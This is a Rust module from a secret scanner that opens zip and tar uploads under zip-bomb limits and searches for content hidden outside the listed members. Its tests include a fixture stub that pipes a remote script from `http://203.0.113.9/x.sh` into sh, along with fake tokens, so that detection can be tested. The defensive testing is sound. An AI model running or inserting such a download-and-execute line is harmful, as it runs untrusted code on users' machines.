//! Archives a contractor delivers (zip, tar, tar.gz): each member is scanned like a file,
//! named `archive.zip!dir/file`, while the archive streams through memory.
//!
//! Limits keep a hostile archive from exhausting the machine: a member larger than the
//! scanner's per-file limit is skipped (its size is read, never trusted), and an archive
//! stops being read after [`MAX_MEMBERS`] members or [`MAX_EXPANDED`] bytes expanded (a zip
//! bomb), which the report counts as skipped. Every byte inflated counts towards that
//! limit: those of skipped members too, and for tar, the declared size of each member, which
//! is inflated to be skipped past. An archive also stops at the scanner's `max_findings`,
//! with a `too-many-findings` finding. Archives inside archives are scanned as plain files,
//! not opened.
//!
//! A tar's extension headers (GNU long names, PAX records) are read whole into memory by the
//! `tar` crate before their entry reaches the loop, so the limit on expanded bytes is also
//! enforced under the tar reader, on the stream itself ([`Bounded`]): no header can make the
//! scan hold more than the archive may expand to.

use std::fs::File;
use std::io::{BufReader, Read, Seek};
use std::path::Path;

use crate::scan::{KNOWN_VALUE, Report, Scanner, Search, TOO_MANY, is_binary, too_many};

/// Members read from one archive at most.
pub(crate) const MAX_MEMBERS: usize = 100_000;
/// The largest zip central directory read. The zip reader holds every entry of the
/// directory in memory (several hundred bytes each) before the first member is read, so a
/// directory declaring millions of entries would cost gigabytes: it is measured first, from
/// the end record, and a zip declaring more than [`MAX_MEMBERS`] entries or a larger
/// directory is not opened, and counts as unscanned.
const MAX_ZIP_DIRECTORY: u64 = 16 * 1024 * 1024;
/// Bytes expanded from one archive at most.
pub(crate) const MAX_EXPANDED: u64 = 4 * 1024 * 1024 * 1024;

/// The error [`Bounded`] returns once its limit is passed.
#[derive(Debug)]
struct LimitReached;

impl std::fmt::Display for LimitReached {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("the archive expands past its limit")
    }
}

impl std::error::Error for LimitReached {}

fn is_limit(error: &std::io::Error) -> bool {
    error.get_ref().is_some_and(|e| e.is::<LimitReached>())
}

/// A reader that fails with [`LimitReached`] when more than `left` bytes would be read.
struct Bounded<R> {
    inner: R,
    left: u64,
}

impl<R: Read> Read for Bounded<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if buf.is_empty() {
            return Ok(0);
        }
        if self.left == 0 {
            // At the limit: the end of the stream is fine, one more byte is not.
            let mut probe = [0u8; 1];
            return match self.inner.read(&mut probe)? {
                0 => Ok(0),
                _ => Err(std::io::Error::other(LimitReached)),
            };
        }
        let room = buf
            .len()
            .min(usize::try_from(self.left).unwrap_or(usize::MAX));
        let read = self.inner.read(&mut buf[..room])?;
        self.left -= read as u64;
        Ok(read)
    }
}

/// The kind of archive a path names, by its extension.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Zip,
    Tar,
    TarGz,
}

impl Kind {
    pub(crate) fn of(path: &Path) -> Option<Kind> {
        let name = path.file_name()?.to_str()?.to_ascii_lowercase();
        if name.ends_with(".zip") || name.ends_with(".jar") || name.ends_with(".whl") {
            Some(Kind::Zip)
        } else if name.ends_with(".tar.gz") || name.ends_with(".tgz") || name.ends_with(".crate") {
            Some(Kind::TarGz)
        } else if name.ends_with(".tar") {
            Some(Kind::Tar)
        } else {
            None
        }
    }
}

/// Reads one member (at most `limit` bytes; `None` when larger), and how many bytes that
/// inflated.
fn read_member(reader: &mut dyn Read, limit: u64) -> std::io::Result<(u64, Option<Vec<u8>>)> {
    let mut data = Vec::new();
    reader.take(limit + 1).read_to_end(&mut data)?;
    let read = data.len() as u64;
    Ok((read, (read <= limit).then_some(data)))
}

/// What one archive has used of its limits.
struct Budget {
    /// Bytes inflated so far.
    expanded: u64,
    /// Entries met so far.
    members: usize,
    /// Bytes it may inflate.
    max_expanded: u64,
    /// Findings listed so far, other than vault values (and `too-many-findings`).
    found: usize,
    /// Vault values listed so far, which have a limit of their own.
    vault_found: usize,
    /// Whether the findings limit was reached (and said so).
    stopped: bool,
}

impl Budget {
    /// Counts an entry that inflates `declared` bytes; `false` once past a limit.
    fn admit(&mut self, declared: u64) -> bool {
        self.members += 1;
        self.expanded = self.expanded.saturating_add(declared);
        self.members <= MAX_MEMBERS && self.expanded <= self.max_expanded
    }
}

impl Scanner {
    /// Reads and scans one member of archive `name`; `false` when the archive must stop.
    /// `declared`: bytes the archive inflates for this member whether or not it is read (a
    /// tar member's size), 0 when only what is read is inflated (zip).
    fn take(
        &self,
        name: &str,
        member: &str,
        reader: &mut dyn Read,
        declared: u64,
        budget: &mut Budget,
        report: &mut Report,
    ) -> std::io::Result<bool> {
        if self.out_of_time() {
            return Ok(false);
        }
        if !budget.admit(declared) {
            report.skipped_large += 1;
            return Ok(false);
        }
        let (read, data) = read_member(reader, self.max_file_size)?;
        if declared == 0 {
            budget.expanded = budget.expanded.saturating_add(read);
        }
        let data = match data {
            None => {
                report.skipped_large += 1;
                return Ok(true);
            }
            Some(data) if is_binary(&data) => {
                report.skipped_binary += 1;
                return Ok(true);
            }
            Some(data) => data,
        };
        self.search_member(name, member, &data, budget, report);
        Ok(true)
    }

    /// Searches the bytes of member `member` of archive `name` (text, or what is searched
    /// whatever it holds), within the archive's findings limits.
    fn search_member(
        &self,
        name: &str,
        member: &str,
        data: &[u8],
        budget: &mut Budget,
        report: &mut Report,
    ) {
        report.files_scanned += 1;
        report.bytes_scanned += data.len() as u64;
        // Every finding carries its path: a member name of megabytes (a tar long name) would
        // be copied into each of up to a thousand findings. Names are cut at 1 KiB.
        let path = format!("{name}!{}", short_name(member));
        // Vault values and the other findings are counted apart, as in a file
        // ([`Scanner::scan_bytes`]): how often a vault value occurs changes nothing of the
        // other findings listed.
        let room = self.max_findings.saturating_sub(budget.found);
        let known_room = self.max_findings.saturating_sub(budget.vault_found);
        if room > 0 {
            let found = self.scan_limited(
                &path,
                data,
                room.min(self.max_findings_per_file),
                known_room.min(self.max_findings_per_file),
                Search::Everything,
            );
            let known = found.iter().filter(|f| f.rule == KNOWN_VALUE).count();
            budget.vault_found += known;
            budget.found += found.iter().filter(|f| f.rule != TOO_MANY).count() - known;
            report.findings.extend(found);
            return;
        }
        // Past the findings limit the archive says so once, and its later members are
        // searched for vault values alone, so that no number of other findings can hide
        // one.
        if !budget.stopped {
            budget.stopped = true;
            report.findings.push(too_many(name, self.max_findings));
        }
        // Past both limits the walk goes on without searching (members are still read and
        // counted as unscannable, binary or too large): where it stopped would otherwise
        // depend on how often a vault value occurred, and the members counted after it
        // would tell that to the submitter.
        if known_room == 0 {
            return;
        }
        let found = self.scan_limited(&path, data, 0, known_room, Search::VaultValues);
        budget.vault_found += found.iter().filter(|f| f.rule != TOO_MANY).count();
        report.findings.extend(found);
    }

    /// Scans the members of the archive at `path` into `report`.
    pub(crate) fn scan_archive(
        &self,
        path: &Path,
        kind: Kind,
        report: &mut Report,
    ) -> std::io::Result<()> {
        let name = path.to_string_lossy().into_owned();
        self.scan_archive_from(&name, kind, BufReader::new(File::open(path)?), report)
    }

    /// Scans the members of an archive read from `source`, naming them `name!member`.
    pub(crate) fn scan_archive_from<R: Read + Seek>(
        &self,
        name: &str,
        kind: Kind,
        source: R,
        report: &mut Report,
    ) -> std::io::Result<()> {
        let max_expanded = self.max_expanded;
        let mut budget = Budget {
            expanded: 0,
            members: 0,
            max_expanded,
            found: 0,
            vault_found: 0,
            stopped: false,
        };
        match kind {
            Kind::Zip => {
                let mut source = source;
                let declared = zip_directory(&mut source)?;
                if declared.is_some_and(|(entries, bytes)| {
                    entries > MAX_MEMBERS as u64 || bytes > MAX_ZIP_DIRECTORY
                }) {
                    report.skipped_large += 1;
                    report.out_of_time |= self.out_of_time();
                    return Ok(());
                }
                let mut zip = zip::ZipArchive::new(source).map_err(std::io::Error::other)?;
                // The reader keys members by name, so of two with one name only the last is
                // listed, where `unzip` and most tools write out the first: an archive
                // whose directory holds more entries than the reader lists hides some, and
                // what is hidden counts as unscanned.
                if let Some((entries, _)) = declared
                    && entries > zip.len() as u64
                {
                    report.skipped_binary += entries - zip.len() as u64;
                }
                let mut spans = Vec::with_capacity(zip.len());
                let mut rest = Rest::default();
                let mut complete = true;
                for i in 0..zip.len() {
                    let mut member = zip.by_index(i).map_err(std::io::Error::other)?;
                    let data_start = member.data_start();
                    spans.push(Span {
                        start: member.header_start(),
                        data_start,
                        end: data_start.saturating_add(member.compressed_size()),
                        crc: member.crc32(),
                    });
                    rest.add_comment(member.comment().as_bytes(), self.max_file_size);
                    rest.add_extra(member.extra_data().unwrap_or_default(), self.max_file_size);
                    // A member marked as a symbolic link is scanned too: unzip tools that
                    // ignore the mark write it out as a regular file. So is a "directory"
                    // with content (a name ending in `/` and data), which other readers
                    // hand out as a file.
                    if member.is_dir() && member.size() == 0 && member.compressed_size() == 0 {
                        continue;
                    }
                    let member_name = member.name().to_owned();
                    if !self.take(name, &member_name, &mut member, 0, &mut budget, report)? {
                        complete = false;
                        break;
                    }
                }
                if complete {
                    rest.add_comment(zip.comment(), self.max_file_size);
                    let directory = zip.central_directory_start();
                    let mut source = zip.into_inner();
                    self.scan_zip_rest(
                        name,
                        &mut source,
                        spans,
                        directory,
                        rest,
                        &mut budget,
                        report,
                    )?;
                }
            }
            Kind::Tar | Kind::TarGz => {
                // Every gzip member: `tar xzf` reads a concatenation of them as one stream.
                let reader: Box<dyn Read> = if kind == Kind::TarGz {
                    Box::new(flate2::read::MultiGzDecoder::new(source))
                } else {
                    Box::new(source)
                };
                let reader = Bounded {
                    inner: reader,
                    left: max_expanded,
                };
                match self.scan_tar(name, reader, &mut budget, report) {
                    Err(e) if is_limit(&e) => report.skipped_large += 1,
                    other => other?,
                }
            }
        }
        report.out_of_time |= self.out_of_time();
        Ok(())
    }

    fn scan_tar(
        &self,
        name: &str,
        reader: impl Read,
        budget: &mut Budget,
        report: &mut Report,
    ) -> std::io::Result<()> {
        let mut tar = tar::Archive::new(reader);
        let mut read_to_end = true;
        for entry in tar.entries()? {
            let mut entry = entry?;
            // Every entry's body is inflated to skip past it, read or not.
            let declared = entry.size();
            let kind = entry.header().entry_type();
            // What is not a link, a directory, a device, a pipe or a header of the format is
            // content: GNU tar and Python extract an entry of a type they do not know as a
            // regular file, so it is scanned as one (as contiguous files are).
            let not_content = kind.is_dir()
                || kind.is_symlink()
                || kind.is_hard_link()
                || kind.is_character_special()
                || kind.is_block_special()
                || kind.is_fifo()
                || kind.is_pax_global_extensions()
                || kind.is_pax_local_extensions()
                || kind.is_gnu_longname()
                || kind.is_gnu_longlink()
                || kind.is_gnu_sparse();
            if not_content {
                if !budget.admit(declared) {
                    report.skipped_large += 1;
                    read_to_end = false;
                    break;
                }
                // A sparse file has content this scan does not reassemble: counted, so
                // that it is not taken for scanned.
                if kind.is_gnu_sparse() {
                    report.skipped_binary += 1;
                }
                continue;
            }
            let member_name = entry.path()?.to_string_lossy().into_owned();
            if !self.take(name, &member_name, &mut entry, declared, budget, report)? {
                read_to_end = false;
                break;
            }
        }
        // Past the end-of-archive marker, anything but zeros (a second archive, which
        // `tar -i` extracts, or data hidden there) is content this scan did not read: it
        // counts as unscanned.
        if read_to_end {
            let mut rest = tar.into_inner();
            let mut block = [0u8; 8192];
            loop {
                // Still bounded: past the archive's limit, this fails as the entries would.
                let n = rest.read(&mut block)?;
                if n == 0 {
                    break;
                }
                if block[..n].iter().any(|&b| b != 0) {
                    report.skipped_binary += 1;
                    break;
                }
            }
        }
        Ok(())
    }

    /// Scans an upload held in memory: the members of an archive (by `name`'s extension),
    /// or the bytes as one file.
    pub fn scan_upload(&self, name: &str, data: &[u8]) -> Result<Report, std::io::Error> {
        let mut report = Report::default();
        match Kind::of(Path::new(name)) {
            Some(kind) => {
                self.scan_archive_from(name, kind, std::io::Cursor::new(data), &mut report)?;
            }
            None if data.len() as u64 > self.max_file_size => report.skipped_large += 1,
            None if is_binary(data) => report.skipped_binary += 1,
            None => {
                report.files_scanned = 1;
                report.bytes_scanned = data.len() as u64;
                report.findings = self.scan_bytes(name, data);
                report.out_of_time = self.out_of_time();
            }
        }
        Ok(report)
    }
}

/// Where a zip member lies: its local header, its data, the end of its data, and its CRC
/// (which a data descriptor after the data repeats).
struct Span {
    start: u64,
    data_start: u64,
    end: u64,
    crc: u32,
}

/// What a zip's headers hold beside its members' names: comments, extra fields, and
/// whether any extra field is one the scan does not know.
#[derive(Default)]
struct Rest {
    comments: Vec<u8>,
    extras: Vec<u8>,
    unknown_extra: bool,
}

impl Rest {
    /// Adds a header's extra fields: searched while they fit in `limit` bytes in all, and
    /// unscanned (as unknown) past it.
    fn add_extra(&mut self, extra: &[u8], limit: u64) {
        self.unknown_extra |= !known_extra_fields(extra);
        if (self.extras.len() + extra.len()) as u64 > limit {
            self.unknown_extra = true;
        } else {
            self.extras.extend_from_slice(extra);
        }
    }

    /// Adds a comment: searched while the comments fit in `limit` bytes in all.
    fn add_comment(&mut self, comment: &[u8], limit: u64) {
        if (self.comments.len() + comment.len()) as u64 > limit {
            self.unknown_extra = true;
        } else {
            self.comments.extend_from_slice(comment);
        }
    }
}

/// How many bytes the deflate stream at `start` takes, read within `declared`; `None` when
/// it does not end there (the reader then failed on it, or read all of it).
fn deflate_length<R: Read + Seek>(
    source: &mut R,
    start: u64,
    declared: u64,
) -> std::io::Result<Option<u64>> {
    source.seek(std::io::SeekFrom::Start(start))?;
    let mut inflater = flate2::Decompress::new(false);
    let (mut input, mut output) = (vec![0u8; 64 * 1024], vec![0u8; 64 * 1024]);
    let mut left = declared;
    while left > 0 {
        let n = source
            .by_ref()
            .take(left.min(input.len() as u64))
            .read(&mut input)?;
        if n == 0 {
            return Ok(None);
        }
        left -= n as u64;
        let mut used = 0;
        while used < n {
            let (before_in, before_out) = (inflater.total_in(), inflater.total_out());
            let status = inflater
                .decompress(&input[used..n], &mut output, flate2::FlushDecompress::None)
                .map_err(std::io::Error::other)?;
            if status == flate2::Status::StreamEnd {
                return Ok(Some(inflater.total_in()));
            }
            if inflater.total_in() == before_in && inflater.total_out() == before_out {
                return Ok(None);
            }
            used += (inflater.total_in() - before_in) as usize;
        }
    }
    Ok(None)
}

/// Extra fields a zip writer puts in headers (ZIP64 sizes, times, owners, NTFS times, a
/// Unicode path, the JAR marker, alignment padding), each at most this long. Any other field,
/// or a longer one, is content the scan does not read.
const KNOWN_EXTRA_FIELDS: [u16; 10] = [
    0x0001, 0x000a, 0x000d, 0x5455, 0x5855, 0x7855, 0x7875, 0x7075, 0xcafe, 0xd935,
];
const MAX_KNOWN_EXTRA_FIELD: usize = 1_100;

/// Whether `extra` (a header's extra fields) holds only fields [`KNOWN_EXTRA_FIELDS`] names,
/// or zeros (old alignment padding).
fn known_extra_fields(mut extra: &[u8]) -> bool {
    if extra.iter().all(|&b| b == 0) {
        return true;
    }
    while extra.len() >= 4 {
        let id = u16::from_le_bytes([extra[0], extra[1]]);
        let size = usize::from(u16::from_le_bytes([extra[2], extra[3]]));
        if !KNOWN_EXTRA_FIELDS.contains(&id)
            || size > MAX_KNOWN_EXTRA_FIELD
            || 4 + size > extra.len()
        {
            return false;
        }
        extra = &extra[4 + size..];
    }
    extra.is_empty()
}

impl Scanner {
    /// What a zip holds beside its listed members' data, where readers that walk the local
    /// headers (Java's `ZipInputStream`, `jar x`) or a shell (a script in front of the
    /// archive) find content `unzip` does not list: bytes before, between or after the
    /// members (unlisted entries, a self-extracting stub), unknown extra fields, comments.
    /// Such bytes and unknown extra fields count as unscanned content, and the bytes are
    /// searched as text; comments are searched as a member; every header's extra fields
    /// are searched for vault values.
    #[allow(clippy::too_many_arguments)]
    fn scan_zip_rest<R: Read + Seek>(
        &self,
        name: &str,
        source: &mut R,
        mut spans: Vec<Span>,
        directory: u64,
        mut rest: Rest,
        budget: &mut Budget,
        report: &mut Report,
    ) -> std::io::Result<()> {
        use std::io::SeekFrom;
        spans.sort_by_key(|span| span.start);
        let mut outside: Vec<(u64, u64)> = Vec::new();
        // Members whose headers or data overlap (several listed entries on one header), or
        // whose local header says another size than the directory: what lies where is not
        // what one reader or the other sees.
        let mut overlapping = false;
        let mut at = 0;
        for (i, span) in spans.iter().enumerate() {
            if self.out_of_time() {
                report.out_of_time = true;
                return Ok(());
            }
            if span.start < at || spans[..i].last().is_some_and(|p| p.start == span.start) {
                overlapping = true;
                at = at.max(span.end);
                continue;
            }
            if span.start > at {
                outside.push((at, span.start));
            }
            let mut head = [0u8; 30];
            source.seek(SeekFrom::Start(span.start))?;
            source.read_exact(&mut head)?;
            let flags = u16::from_le_bytes([head[6], head[7]]);
            let method = u16::from_le_bytes([head[8], head[9]]);
            let local_size = u32::from_le_bytes([head[18], head[19], head[20], head[21]]);
            let declared = span.end.saturating_sub(span.data_start);
            if flags & 8 == 0 && local_size != u32::MAX && u64::from(local_size) != declared {
                overlapping = true;
            }
            // The local header's own extra fields, within the scanner's per-file limit.
            let name_len = u64::from(u16::from_le_bytes([head[26], head[27]]));
            let extra_len = u16::from_le_bytes([head[28], head[29]]);
            if extra_len > 0 && span.start + 30 + name_len + u64::from(extra_len) <= span.data_start
            {
                let mut extra = vec![0u8; usize::from(extra_len)];
                source.seek(SeekFrom::Start(span.start + 30 + name_len))?;
                source.read_exact(&mut extra)?;
                rest.add_extra(&extra, self.max_file_size);
            }
            // A deflated member ends where its stream does: bytes after it, up to the size
            // the directory declares, are read by no one here and are outside.
            let mut end = span.end;
            if method == 8
                && let Some(length) = deflate_length(source, span.data_start, declared)?
            {
                end = span.data_start + length;
            }
            // A data descriptor may follow the data: the CRC (after a signature or not) and
            // the sizes, 4 or 8 bytes each, up to where the next header starts.
            let next = spans.get(i + 1).map_or(directory, |s| s.start);
            if next > end && next - end <= 24 {
                let mut tail = vec![0u8; (next - end) as usize];
                source.seek(SeekFrom::Start(end))?;
                source.read_exact(&mut tail)?;
                let crc = span.crc.to_le_bytes();
                let signed = tail.starts_with(&[0x50, 0x4b, 0x07, 0x08]);
                let descriptor = match (signed, tail.len()) {
                    (true, 16 | 24) => tail[4..8] == crc,
                    (false, 12 | 20) => tail[..4] == crc,
                    _ => false,
                };
                if descriptor {
                    end = next;
                }
            }
            at = at.max(end);
        }
        if directory > at {
            outside.push((at, directory));
        }
        if overlapping {
            report.skipped_binary += 1;
        }
        if rest.unknown_extra {
            report.skipped_binary += 1;
        }
        let room = self.max_findings.saturating_sub(budget.vault_found);
        if room > 0 && !rest.extras.is_empty() {
            let path = format!("{name}!(extra fields)");
            let found = self.scan_limited(&path, &rest.extras, 0, room, Search::VaultValues);
            budget.vault_found += found.iter().filter(|f| f.rule != TOO_MANY).count();
            report.findings.extend(found);
        }
        if !rest.comments.is_empty() {
            let mut reader = std::io::Cursor::new(rest.comments);
            self.take(name, "(comments)", &mut reader, 0, budget, report)?;
        }
        let outside_len: u64 = outside.iter().map(|(from, to)| to - from).sum();
        if outside_len > 0 {
            report.skipped_binary += 1;
            if outside_len <= self.max_file_size {
                let mut bytes = Vec::with_capacity(outside_len as usize);
                for (from, to) in outside {
                    source.seek(SeekFrom::Start(from))?;
                    source.by_ref().take(to - from).read_to_end(&mut bytes)?;
                }
                // Searched whatever they hold: an unlisted entry's header is binary, and
                // its stored data is not.
                let member = "(bytes outside the listed members)";
                self.search_member(name, member, &bytes, budget, report);
            }
        }
        Ok(())
    }
}

/// Longest member name kept in a finding's path.
const MAX_MEMBER_NAME: usize = 1024;

/// `member`, cut at [`MAX_MEMBER_NAME`] bytes (on a character boundary) with a mark.
fn short_name(member: &str) -> std::borrow::Cow<'_, str> {
    if member.len() <= MAX_MEMBER_NAME {
        return member.into();
    }
    let mut end = MAX_MEMBER_NAME;
    while !member.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…(name cut at {MAX_MEMBER_NAME} bytes)", &member[..end]).into()
}

/// The most entries and bytes a zip's central directory declares, from its end record (the
/// ZIP64 one when the classic fields are saturated); `None` when no end record is found
/// (the zip reader then says what is wrong). Every end-record signature near the end of the
/// archive is read, and the largest claim kept, so that a signature planted in the
/// archive's comment cannot make the directory the reader uses look small. Leaves `source`
/// at its start.
fn zip_directory<R: Read + Seek>(source: &mut R) -> std::io::Result<Option<(u64, u64)>> {
    use std::io::SeekFrom;
    let len = source.seek(SeekFrom::End(0))?;
    // The end record is 22 bytes plus a comment of at most 65,535.
    let tail_len = len.min(22 + 65_535);
    let tail_start = len - tail_len;
    source.seek(SeekFrom::Start(tail_start))?;
    let mut tail = vec![0u8; tail_len as usize];
    source.read_exact(&mut tail)?;
    let mut declared: Option<(u64, u64)> = None;
    for at in
        (0..tail.len().saturating_sub(21)).filter(|&i| tail[i..i + 4] == [0x50, 0x4b, 0x05, 0x06])
    {
        let entries = u64::from(u16::from_le_bytes([tail[at + 10], tail[at + 11]]));
        let bytes = u64::from(u32::from_le_bytes(
            tail[at + 12..at + 16].try_into().expect("four bytes"),
        ));
        let mut claim = (entries, bytes);
        // ZIP64: a 20-byte locator just before the end record points at the ZIP64 end
        // record, which holds the counts the classic fields cannot.
        let record_at = tail_start + at as u64;
        if (entries == 0xFFFF || bytes == 0xFFFF_FFFF) && record_at >= 20 {
            let mut locator = [0u8; 20];
            source.seek(SeekFrom::Start(record_at - 20))?;
            source.read_exact(&mut locator)?;
            let record = u64::from_le_bytes(locator[8..16].try_into().expect("eight bytes"));
            if locator[..4] == [0x50, 0x4b, 0x06, 0x07]
                && record.checked_add(48).is_some_and(|end| end <= len)
            {
                let mut head = [0u8; 48];
                source.seek(SeekFrom::Start(record))?;
                source.read_exact(&mut head)?;
                if head[..4] == [0x50, 0x4b, 0x06, 0x06] {
                    claim = (
                        u64::from_le_bytes(head[32..40].try_into().expect("eight bytes")),
                        u64::from_le_bytes(head[40..48].try_into().expect("eight bytes")),
                    );
                }
            }
        }
        declared = Some(declared.map_or(claim, |(e, b)| (e.max(claim.0), b.max(claim.1))));
    }
    source.seek(SeekFrom::Start(0))?;
    Ok(declared)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use crate::{RuleSet, Scanner};

    const LEAK: &str = "GITHUB_TOKEN=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\n";

    #[test]
    fn a_scan_past_its_deadline_stops_and_says_so() {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file("app/.env", zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(LEAK.as_bytes()).unwrap();
        let archive = zip.finish().unwrap().into_inner();
        let mut scanner = Scanner::new(RuleSet::builtin().unwrap());

        // Time enough: everything is searched.
        scanner.deadline = Some(std::time::Instant::now() + std::time::Duration::from_secs(3600));
        for (name, data) in [(".env", LEAK.as_bytes()), ("d.zip", &archive[..])] {
            let report = scanner.scan_upload(name, data).unwrap();
            assert!(!report.out_of_time, "{name}");
            assert_eq!(report.files_scanned, 1, "{name}");
            assert_eq!(report.findings.len(), 1, "{name}: {:?}", report.findings);
        }

        // Past the deadline: a file's lines are not searched, an archive's members not
        // read, and the report says the scan ran out of time rather than looking clean.
        scanner.deadline = Some(std::time::Instant::now());
        let report = scanner.scan_upload(".env", LEAK.as_bytes()).unwrap();
        assert!(report.out_of_time);
        assert!(report.findings.is_empty(), "{:?}", report.findings);
        let report = scanner.scan_upload("d.zip", &archive).unwrap();
        assert!(report.out_of_time);
        assert_eq!(report.files_scanned, 0);
        assert!(report.findings.is_empty(), "{:?}", report.findings);

        // A vault value is still looked for in what was read: finding it is one pass.
        let scanner = Scanner::new(RuleSet::builtin().unwrap()).with_known_values(&[(
            b"ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo",
            "ci/token".into(),
        )]);
        let mut scanner = scanner;
        scanner.deadline = Some(std::time::Instant::now());
        let report = scanner.scan_upload(".env", LEAK.as_bytes()).unwrap();
        assert!(report.out_of_time);
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].known.as_deref(), Some("ci/token"));
        assert_eq!(
            report.findings[0].context, "",
            "the scan stopped: no line is shown"
        );
    }

    /// A zip of stored members written by hand: `prefix` before it (a script in front of
    /// the archive; offsets count from the zip's own start, as `cat stub a.zip` leaves
    /// them), each member's data followed by a data descriptor when `descriptor`, `extra`
    /// as every local header's extra fields, and `comment` as the archive's.
    fn handmade_zip(
        prefix: &[u8],
        members: &[(&str, &[u8])],
        descriptor: bool,
        extra: &[u8],
        comment: &[u8],
    ) -> Vec<u8> {
        let (mut zip, mut central) = (Vec::new(), Vec::new());
        let flags: u16 = if descriptor { 8 } else { 0 };
        for (name, data) in members {
            let mut crc = flate2::Crc::new();
            crc.update(data);
            let (crc, size) = (crc.sum(), data.len() as u32);
            let offset = zip.len() as u32;
            let (local_crc, local_size) = if descriptor { (0, 0) } else { (crc, size) };
            zip.extend_from_slice(&[0x50, 0x4b, 0x03, 0x04, 20, 0]);
            zip.extend_from_slice(&flags.to_le_bytes());
            zip.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
            zip.extend_from_slice(&local_crc.to_le_bytes());
            zip.extend_from_slice(&local_size.to_le_bytes());
            zip.extend_from_slice(&local_size.to_le_bytes());
            zip.extend_from_slice(&(name.len() as u16).to_le_bytes());
            zip.extend_from_slice(&(extra.len() as u16).to_le_bytes());
            zip.extend_from_slice(name.as_bytes());
            zip.extend_from_slice(extra);
            zip.extend_from_slice(data);
            if descriptor {
                zip.extend_from_slice(&[0x50, 0x4b, 0x07, 0x08]);
                zip.extend_from_slice(&crc.to_le_bytes());
                zip.extend_from_slice(&size.to_le_bytes());
                zip.extend_from_slice(&size.to_le_bytes());
            }
            central.extend_from_slice(&[0x50, 0x4b, 0x01, 0x02, 20, 3, 20, 0]);
            central.extend_from_slice(&flags.to_le_bytes());
            central.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
            central.extend_from_slice(&crc.to_le_bytes());
            central.extend_from_slice(&size.to_le_bytes());
            central.extend_from_slice(&size.to_le_bytes());
            central.extend_from_slice(&(name.len() as u16).to_le_bytes());
            central.extend_from_slice(&[0; 8]);
            central.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
            central.extend_from_slice(&offset.to_le_bytes());
            central.extend_from_slice(name.as_bytes());
        }
        let start = zip.len() as u32;
        zip.extend_from_slice(&central);
        zip.extend_from_slice(&[0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0]);
        zip.extend_from_slice(&(members.len() as u16).to_le_bytes());
        zip.extend_from_slice(&(members.len() as u16).to_le_bytes());
        zip.extend_from_slice(&(central.len() as u32).to_le_bytes());
        zip.extend_from_slice(&start.to_le_bytes());
        zip.extend_from_slice(&(comment.len() as u16).to_le_bytes());
        zip.extend_from_slice(comment);
        [prefix, &zip[..]].concat()
    }

    #[test]
    fn what_a_zip_holds_outside_its_listed_members_is_searched_and_counted() {
        let scanner = Scanner::new(RuleSet::builtin().unwrap())
            .with_known_values(&[(b"AcmeDbPa55-Xq9rT7vLm2", "acme/app/db".into())]);
        let clean: &[(&str, &[u8])] = &[("clean.txt", b"nothing here\n")];
        // Zips as writers make them (data descriptors, Info-ZIP's time and owner fields):
        // nothing outside.
        let owner = [0x75, 0x78, 11, 0, 1, 4, 0xe8, 3, 0, 0, 4, 0xe8, 3, 0, 0];
        for zip in [
            handmade_zip(b"", clean, false, b"", b""),
            handmade_zip(b"", clean, true, &owner, b""),
        ] {
            let report = scanner.scan_upload("d.zip", &zip).unwrap();
            assert_eq!(
                (
                    report.files_scanned,
                    report.skipped_binary,
                    report.findings.len()
                ),
                (1, 0, 0),
                "{:?}",
                report.findings
            );
        }
        let rules = |report: &crate::Report| -> Vec<(String, String)> {
            report
                .findings
                .iter()
                .map(|f| (f.path.clone(), f.rule.clone()))
                .collect()
        };
        // A script in front of the archive, which `sh d.zip` runs and `unzip` skips.
        let stub = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\nexit 0\n";
        let report = scanner
            .scan_upload("d.zip", &handmade_zip(stub, clean, false, b"", b""))
            .unwrap();
        assert_eq!(report.skipped_binary, 1);
        assert!(
            rules(&report).contains(&(
                "d.zip!(bytes outside the listed members)".into(),
                "download-and-execute-shell".into()
            )),
            "{:?}",
            report.findings
        );
        // An entry the directory does not list, which Java's ZipInputStream extracts.
        let hidden = handmade_zip(
            b"",
            &[("hidden.env", b"DB=AcmeDbPa55-Xq9rT7vLm2\n")],
            false,
            b"",
            b"",
        );
        let end = hidden
            .windows(4)
            .position(|w| w == [0x50, 0x4b, 0x01, 0x02])
            .unwrap();
        let report = scanner
            .scan_upload(
                "d.zip",
                &handmade_zip(&hidden[..end], clean, false, b"", b""),
            )
            .unwrap();
        assert_eq!(report.skipped_binary, 1);
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.known.as_deref() == Some("acme/app/db")),
            "{:?}",
            report.findings
        );
        // The archive's comment, and a field of a kind no writer uses.
        let report = scanner
            .scan_upload(
                "d.zip",
                &handmade_zip(b"", clean, false, b"", LEAK.as_bytes()),
            )
            .unwrap();
        assert_eq!(
            rules(&report),
            [(
                "d.zip!(comments)".into(),
                "github-personal-access-token".into()
            )]
        );
        let mut field = vec![0x34, 0x12, 21, 0];
        field.extend_from_slice(b"AcmeDbPa55-Xq9rT7vLm2");
        let report = scanner
            .scan_upload("d.zip", &handmade_zip(b"", clean, false, &field, b""))
            .unwrap();
        assert_eq!(report.skipped_binary, 1);
        assert_eq!(report.findings[0].path, "d.zip!(extra fields)");
        assert_eq!(report.findings[0].known.as_deref(), Some("acme/app/db"));
    }

    #[test]
    fn zip_entries_that_share_or_stretch_a_header_count_as_unscanned() {
        let scanner = Scanner::new(RuleSet::builtin().unwrap());
        // Thousands of listed entries on one local header: read once (its extra fields could
        // be 64 KiB each time), and the archive says what it is.
        let owner = [0x75, 0x78, 11, 0, 1, 4, 0xe8, 3, 0, 0, 4, 0xe8, 3, 0, 0];
